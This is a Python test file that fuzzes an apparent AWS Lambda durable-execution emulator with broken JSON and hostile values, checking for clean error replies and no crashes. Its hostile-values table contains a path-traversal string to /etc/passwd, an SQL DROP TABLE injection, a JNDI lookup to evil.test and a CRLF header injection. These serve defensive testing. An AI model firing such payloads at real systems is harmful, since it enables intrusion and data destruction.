"""Whatever is sent, the answer is the model's: never a fault, never what is inside (B1, SR-29).

Requests of all calls are generated from their shapes, then spoiled; hostile values stand in a
table. The catalog behind is the real one; the engine's calls are fakes.
"""

import base64
import json
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from perdure.api.errors import ERRORS
from perdure.protocol.calls import CALLS, LOGS_CALLS, LOGS_TARGET_PREFIX, Call, LogsCall
from perdure.protocol.unsupported import UNSUPPORTED_CALLS
from perdure.protocol.wire import Location, encode, members
from tests.protocol.strategies import json_values, shapes, texts

from .fakes import CALLBACK_ID, EXECUTION_ARN, FUNCTION_ARN, TOKEN, Behind, Reply, ask

LABELS = {
    "DurableExecutionArn": EXECUTION_ARN,
    "CallbackId": CALLBACK_ID,
    "FunctionName": "f",
    "Resource": FUNCTION_ARN,
    "Name": "live",
}
WITH_A_BODY = [call for call in CALLS if call.method in ("POST", "PUT")]

BROKEN_JSON = {
    "empty": b"",
    "blank": b" \n",
    "not utf-8": b'{"CheckpointToken": "\xff"}',
    "utf-16": '{"a": 1}'.encode("utf-16"),
    "byte order mark": b'\xef\xbb\xbf{"a": 1}',
    "lone surrogate": b'{"CheckpointToken": "\\ud800"}',
    "lone surrogate, raw": b'{"CheckpointToken": "\xed\xa0\x80"}',
    "nul, raw": b'{"CheckpointToken": "\x00"}',
    "not a number": b'{"a": NaN}',
    "infinity": b'{"a": -Infinity}',
    "number out of range": b'{"a": 1e999999}',
    "5,000 digits": b'{"a": ' + b"9" * 5_000 + b"}",
    "100,000 deep": b"[" * 100_000 + b"]" * 100_000,
    "100,000 deep, objects": b'{"a":' * 100_000,
    "cut off": b'{"CheckpointToken": "abc',
    "two documents": b"{} {}",
    "single quotes": b"{'a': 1}",
    "trailing comma": b'{"a": 1,}',
    "xml": b"<?xml version='1.0'?><a/>",
    "form": b"a=b&c=d",
    "array": b"[]",
    "string": b'"x"',
    "number": b"1",
    "null": b"null",
}

HOSTILE_VALUES: dict[str, Any] = {
    "nul": "\0",
    "long": "x" * 100_000,
    "surrogates in pairs": "\U0001f4a3" * 10,
    "path": "../../../../etc/passwd",
    "sql": "'; DROP TABLE record; --",
    "format": "%s%n{0.__class__}${jndi:ldap://evil.test/a}",
    "right to left": "\u202e\u200b",
    "newline": "a\r\nX-Injected: yes",
    "true": True,
    "zero": 0,
    "negative": -1,
    "large": 2**63,
    "fraction": 0.1,
    "list": ["x"],
    "object": {"x": "y"},
    "deep": json.loads("[" * 500 + "]" * 500),
}


def path_of(call: Call, labels: dict[str, str] | None = None) -> str:
    """Return the call's path with labels, percent-encoded."""
    given_labels = {**LABELS, **(labels or {})}
    return call.uri.format(**{name: quote(value, safe="") for name, value in given_labels.items()})


def check(reply: Reply) -> None:
    """Hold an answer to the model's forms."""
    assert reply.status < 500, reply.body
    assert b"Traceback" not in reply.body
    assert b"perdure" not in reply.body.lower().replace(b"supported by perdure", b"")
    assert not any("\n" in value or "\r" in value for value in reply.headers.values())
    assert "x-injected" not in reply.headers
    if reply.status >= 400:
        code = reply.headers["x-amzn-errortype"]
        assert ERRORS[code].status == reply.status
        assert json.loads(reply.body)[ERRORS[code].message_member]


@pytest.fixture(scope="module")
def behind() -> Behind:
    return Behind()


@pytest.fixture(scope="module")
def app(behind: Behind) -> Any:
    return behind.app()


@pytest.fixture(autouse=True)
def _unharmed(app: Any) -> Any:
    """Hold the server to answering as before, once the test has done its worst."""
    yield
    assert ask(app, "GET", "/healthz").status == 200
    assert ask(app, "GET", "/2015-03-31/functions").status == 200
    body = json.dumps({"CheckpointToken": TOKEN}).encode()
    path = f"/2025-12-01/durable-executions/{quote(EXECUTION_ARN, safe='')}/checkpoint"
    assert ask(app, "POST", path, body=body).status == 200


@pytest.mark.parametrize("call", WITH_A_BODY, ids=lambda call: call.name)
@pytest.mark.parametrize("body", BROKEN_JSON.values(), ids=BROKEN_JSON)
def test_broken_json_is_refused_at_the_door(
    app: Any, behind: Behind, call: Call, body: bytes
) -> None:
    behind.executions.asked.clear()
    reply = ask(app, call.method, path_of(call), body=body)
    check(reply)
    is_opaque = call.name in ("Invoke", "SendDurableExecutionCallbackSuccess")
    has_document = any(m.location is Location.BODY for m in members(call.request))
    if body and has_document and not is_opaque:
        assert reply.status in (400, 404)
        assert behind.executions.asked == []


@pytest.mark.parametrize("call", CALLS, ids=lambda call: call.name)
@pytest.mark.parametrize("value", HOSTILE_VALUES.values(), ids=HOSTILE_VALUES)
def test_hostile_values_in_every_place(app: Any, call: Call, value: Any) -> None:
    text = value if isinstance(value, str) else json.dumps(value)[:10_000]
    for member in members(call.request):
        path, query, headers, document = path_of(call), "", {}, _valid_document(call)
        match member.location:
            case Location.URI:
                path = path_of(call, {member.wire: text[:4_000]})
            case Location.QUERY:
                query = urlencode({member.wire: text[:4_000]})
            case Location.HEADER:
                headers = {member.wire: quote(text[:4_000])}
            case _:
                document[member.wire] = value
        body = json.dumps(document).encode() if call.method in ("POST", "PUT") else b""
        check(ask(app, call.method, path, body=body, query=query, headers=headers))


def _valid_document(call: Call) -> dict[str, Any]:
    known = {
        "CheckpointToken": TOKEN,
        "FunctionName": "f",
        "Role": "arn:aws:iam::000000000000:role/r",
        "Runtime": "python3.11",
        "Handler": "a.b",
        "Code": {"ZipFile": base64.b64encode(b"PK").decode()},
        "Name": "live",
        "FunctionVersion": "$LATEST",
    }
    body = {m.wire for m in members(call.request) if m.location is Location.BODY}
    return {name: value for name, value in known.items() if name in body}


@pytest.mark.parametrize("call", CALLS, ids=lambda call: call.name)
def test_generated_requests_are_answered_in_the_models_forms(app: Any, call: Call) -> None:
    @settings(max_examples=40, suppress_health_check=list(HealthCheck))
    @given(_requests(call))
    def is_answered(request: dict[str, Any]) -> None:
        check(ask(app, call.method, **request))

    is_answered()


@st.composite
def _requests(draw: st.DrawFn, call: Call) -> dict[str, Any]:
    """Return the parts of a request: one that is right, with some members replaced by anything."""
    data = encode(draw(shapes(call.request)))
    labels: dict[str, str] = {}
    query: list[tuple[str, str]] = []
    headers: dict[str, str] = {}
    payload: Any = None
    for member in members(call.request):
        if member.wire not in data:
            continue
        value = data.pop(member.wire)
        if draw(st.integers(0, 4)) == 0:
            value = draw(json_values)
        match member.location:
            case Location.URI:
                labels[member.wire] = f"{value}"
            case Location.QUERY:
                items = value if isinstance(value, list) else [value]
                query += [(member.wire, _query_text(item)) for item in items]
            case Location.HEADER:
                headers[member.wire] = quote(f"{value}")
            case Location.PAYLOAD:
                payload = value
            case _:
                data[member.wire] = value
    document = data if payload is None else payload
    return {
        "path": path_of(call, labels),
        "query": urlencode(query, errors="replace"),
        "headers": headers,
        "body": json.dumps(document).encode() if call.method in ("POST", "PUT") else b"",
    }


def _query_text(value: object) -> str:
    return json.dumps(value) if isinstance(value, bool) else f"{value}"


@pytest.mark.parametrize("call", LOGS_CALLS, ids=lambda call: call.name)
def test_generated_log_requests_are_answered(app: Any, call: LogsCall) -> None:
    headers = {"X-Amz-Target": f"{LOGS_TARGET_PREFIX}{call.name}"}
    wires = [member.wire for member in members(call.request)]

    @settings(max_examples=60, suppress_health_check=list(HealthCheck))
    @given(shapes(call.request).map(encode) | st.dictionaries(st.sampled_from(wires), json_values))
    def is_answered(document: dict[str, Any]) -> None:
        reply = ask(app, "POST", "/", body=json.dumps(document).encode(), headers=headers)
        assert reply.status in (200, 400), reply.body
        if reply.status == 400:
            assert json.loads(reply.body)["__type"]

    is_answered()
    for body in BROKEN_JSON.values():
        assert ask(app, "POST", "/", body=body, headers=headers).status in (200, 400)


@pytest.mark.parametrize(("name", "method", "uri"), UNSUPPORTED_CALLS)
def test_unsupported_calls_are_refused_by_name(app: Any, name: str, method: str, uri: str) -> None:
    path = "/".join("x" if part.startswith("{") else part for part in uri.split("/"))
    reply = ask(app, method, path, body=b"{}")
    check(reply)
    assert reply.status == 400
    # Where only a query tells two calls apart, the first one's name is said.
    first = next(call for call in UNSUPPORTED_CALLS if call[1:] == (method, uri))
    assert json.loads(reply.body)["message"] == f"{first[0]} is not supported by Perdure"


@given(
    st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "FOO"]),
    st.binary(max_size=60),
    texts,
)
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_path_is_answered(app: Any, method: str, path: bytes, query: str) -> None:
    for raw in (b"/" + path, b"/2015-03-31/functions/" + path, b"/2025-12-01/" + path):
        check(ask(app, method, raw, query=quote(query)))
